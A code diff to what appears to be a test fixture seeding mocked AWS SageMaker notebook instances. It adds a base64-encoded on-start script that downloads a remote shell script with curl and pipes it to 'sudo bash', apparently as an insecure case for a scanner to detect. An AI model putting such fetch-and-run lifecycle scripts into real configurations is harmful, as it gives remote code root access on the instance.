@@ -3,6 +3,7 @@ in us-east-1 and eu-west-1, plus the recorded responses for what moto lacks."""
 
 from __future__ import annotations
 
+import base64
 import json
 from typing import Any
 
@@ -26,6 +27,11 @@ TRUST = {
         }
     ],
 }
+
+
+_LC_FETCH = base64.b64encode(
+    b"#!/bin/bash\ncurl -fsSL https://tools.example.com/setup.sh | sudo bash\n"
+).decode()
 
 
 def _doc(*statements: dict[str, Any]) -> str:
@@ -145,9 +151,11 @@ def seed(session: Any, recorded: Recorded) -> dict[str, str]:
     for region in (E1, W1):
         sm = session.client("sagemaker", region_name=region)
         sfx = "" if region == E1 else "-w1"
+        # us-east-1: "#!/bin/bash\necho ok"; eu-west-1 pipes a download into a shell
+        script = "IyEvYmluL2Jhc2gKZWNobyBvaw==" if region == E1 else _LC_FETCH
         sm.create_notebook_instance_lifecycle_config(
             NotebookInstanceLifecycleConfigName=f"on-start{sfx}",
-            OnStart=[{"Content": "IyEvYmluL2Jhc2gKZWNobyBvaw=="}],
+            OnStart=[{"Content": script}],
         )
         sm.create_notebook_instance(
             NotebookInstanceName=f"nb-insecure{sfx}",
